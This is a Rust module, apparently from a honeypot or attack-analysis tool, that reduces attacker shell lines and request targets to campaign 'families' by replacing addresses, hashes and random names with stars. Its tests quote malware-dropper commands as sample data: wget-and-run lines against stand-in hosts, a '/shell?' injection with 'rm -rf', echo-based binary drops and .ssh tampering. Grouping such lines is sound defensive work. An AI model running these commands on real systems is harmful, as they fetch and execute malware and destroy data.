//! What stays the same in a text that attackers vary: addresses, hosts of URLs, numbers, hexadecimal, base64 and random-looking
//! names become `*`, so that a campaign that changes its URL, file name or port with each visit is one key.
//!
//! The rules are applied until nothing changes any more, so a family is its own family. They are about form alone: nothing is
//! decoded and no word is looked up.

use std::net::{Ipv4Addr, Ipv6Addr};

/// Bytes of a family at most.
pub const LONGEST_FAMILY: usize = 256;
/// Bytes of a text looked at: families of longer texts are those of their beginnings.
const LONGEST_LOOKED_AT: usize = 1_024;
/// Hexadecimal digits from which a run is an identifier.
const LEAST_HEX: usize = 8;
/// Letters and digits from which a run with both cases and digits is taken for base64.
const LEAST_BASE64: usize = 20;
/// Letters and digits from which a run may look random.
const LEAST_RANDOM: usize = 8;
/// Digits in a row from which they are a number of their own inside a word.
const LEAST_NUMBER: usize = 3;

/// The family of a shell line or an HTTP request target.
#[must_use]
pub fn family_of(text: &str) -> String {
    let mut family = cut(text, LONGEST_LOOKED_AT).to_owned();
    loop {
        let next = pass(&family);
        let next = if next == family { cut(&next, LONGEST_FAMILY).to_owned() } else { next };
        if next == family {
            return family;
        }
        family = next;
    }
}

fn cut(text: &str, most: usize) -> &str {
    let mut end = text.len().min(most);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// One application of the rules. What it gives is never longer, and with each change has fewer letters and digits, so that
/// applying it again and again ends.
fn pass(text: &str) -> String {
    let mut family = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        let taken = if let Some(host) = rest.strip_prefix("://") {
            let length = host.find(ends_host).unwrap_or(host.len());
            family.push_str("://");
            if length > 0 {
                star_after(&mut family);
            }
            3 + length
        } else if first == '\\' && hex_escapes(rest) > 0 {
            star_after(&mut family);
            hex_escapes(rest)
        } else if is_of_address(first) {
            let mut end = rest.find(|c| !is_of_address(c)).unwrap_or(rest.len());
            // The colon of a URL's scheme looks like that of an address.
            if end > 1 && rest[end - 1..].starts_with("://") {
                end -= 1;
            }
            word(&mut family, &rest[..end]);
            end
        } else {
            if first == '*' {
                star_after(&mut family);
            } else {
                family.push(first);
            }
            first.len_utf8()
        };
        rest = &rest[taken..];
    }
    family
}

const fn is_of_address(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | ':')
}

const fn ends_host(c: char) -> bool {
    !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '-' | '_' | '@' | '[' | ']' | '*'))
}

fn star_after(family: &mut String) {
    if !family.ends_with('*') {
        family.push('*');
    }
}

/// The length of `\x7f\x45…` at the start of a text, as `echo -ne` drops binaries.
fn hex_escapes(text: &str) -> usize {
    let bytes = text.as_bytes();
    let pair = |at: usize| {
        bytes.get(at..at + 4).is_some_and(|escape| {
            escape.starts_with(b"\\x") && escape[2..].iter().all(u8::is_ascii_hexdigit)
        })
    };
    (0..).map(|nth| nth * 4).find(|at| !pair(*at)).unwrap_or(0)
}

/// Letters, digits, dots and colons: an address, or runs between dots and colons.
fn word(family: &mut String, text: &str) {
    let is_v4 = |text: &str| text.parse::<Ipv4Addr>().is_ok();
    let with_port = text.rsplit_once(':');
    let is_port = |port: &str| !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit());
    if is_v4(text)
        || text.parse::<Ipv6Addr>().is_ok_and(|_| text.len() > 2)
        || with_port.is_some_and(|(host, port)| is_v4(host) && is_port(port))
    {
        return star_after(family);
    }
    let mut rest = text;
    while !rest.is_empty() {
        let end = rest.find(['.', ':']).unwrap_or(rest.len());
        run(family, &rest[..end]);
        let next = rest[end..].chars().next();
        family.extend(next);
        rest = &rest[end + next.map_or(0, char::len_utf8)..];
    }
}

/// Letters and digits only.
fn run(family: &mut String, text: &str) {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    if text.is_empty() {
        return;
    }
    if digits == text.len()
        || is_hex(text, digits)
        || is_base64(text, digits)
        || is_random(text, digits)
    {
        return star_after(family);
    }
    let mut rest = text;
    while !rest.is_empty() {
        let number = rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len());
        if number >= LEAST_NUMBER {
            star_after(family);
            rest = &rest[number..];
            continue;
        }
        let end = number
            + rest[number..].find(|c: char| c.is_ascii_digit()).unwrap_or(rest.len() - number);
        family.push_str(&rest[..end]);
        rest = &rest[end..];
    }
}

fn is_hex(text: &str, digits: usize) -> bool {
    text.len() >= LEAST_HEX && digits > 0 && text.bytes().all(|byte| byte.is_ascii_hexdigit())
}

fn is_base64(text: &str, digits: usize) -> bool {
    let any = |of: fn(&u8) -> bool| text.as_bytes().iter().any(of);
    text.len() >= LEAST_BASE64
        && digits > 0
        && any(u8::is_ascii_lowercase)
        && any(u8::is_ascii_uppercase)
}

/// Letters and digits that change places again and again, or letters that nobody could speak.
fn is_random(text: &str, digits: usize) -> bool {
    let bytes = text.as_bytes();
    let changes =
        bytes.windows(2).filter(|two| two[0].is_ascii_digit() != two[1].is_ascii_digit()).count();
    let vowels = bytes.iter().filter(|byte| b"aeiouyAEIOUY".contains(byte)).count();
    let letters = bytes.len() - digits;
    bytes.len() >= LEAST_RANDOM
        && (changes >= 3 || (letters >= LEAST_RANDOM && vowels * 8 < letters))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_campaign_that_changes_its_urls_is_one_family() {
        let one = "cd /tmp; wget http://198.51.100.7:8080/bins/a8f3c901de.sh; chmod 777 a8f3c901de.sh; sh a8f3c901de.sh";
        let two = "cd /tmp; wget http://evil.example/bins/77aa01bc3f.sh; chmod 777 77aa01bc3f.sh; sh 77aa01bc3f.sh";
        assert_eq!(family_of(one), "cd /tmp; wget http://*/bins/*.sh; chmod * *.sh; sh *.sh");
        assert_eq!(family_of(one), family_of(two));
        assert_eq!(
            family_of(r"echo -ne '\x7f\x45\x4c\x46' >> dvrHelper"),
            family_of(r"echo -ne '\x00\x01' >> dvrHelper")
        );
        assert_eq!(
            family_of("/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.9/jaws;sh+/tmp/jaws"),
            family_of("/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.77/jaws;sh+/tmp/jaws")
        );
        assert_eq!(family_of("curl [2001:db8::7:1]/x"), "curl [*]/x");
    }

    #[test]
    fn what_names_an_attack_stays() {
        for text in [
            "/bin/busybox ECCHI",
            "cat /proc/cpuinfo | grep name | wc -l",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/cgi-bin/.%2e/.%2e/bin/sh",
            "/boaform/admin/formLogin",
            "cd ~; chattr -ia .ssh; lockr -ia .ssh",
            "locate telegram",
        ] {
            assert_eq!(family_of(text), text);
        }
    }

    proptest! {
        #[test]
        fn a_family_is_its_own_family_and_bounded(text in "(?s).{0,400}") {
            let family = family_of(&text);
            prop_assert!(family.len() <= LONGEST_FAMILY);
            prop_assert_eq!(family_of(&family), family);
        }

        #[test]
        fn the_same_of_what_looks_like_commands(text in r"([a-z0-9/.:;*\\x]{1,12}|://|[0-9a-f]{8,40}|[A-Za-z0-9+/=]{20,60}| ){0,60}") {
            let family = family_of(&text);
            prop_assert!(family.len() <= LONGEST_FAMILY);
            prop_assert_eq!(family_of(&family), family);
        }
    }
}
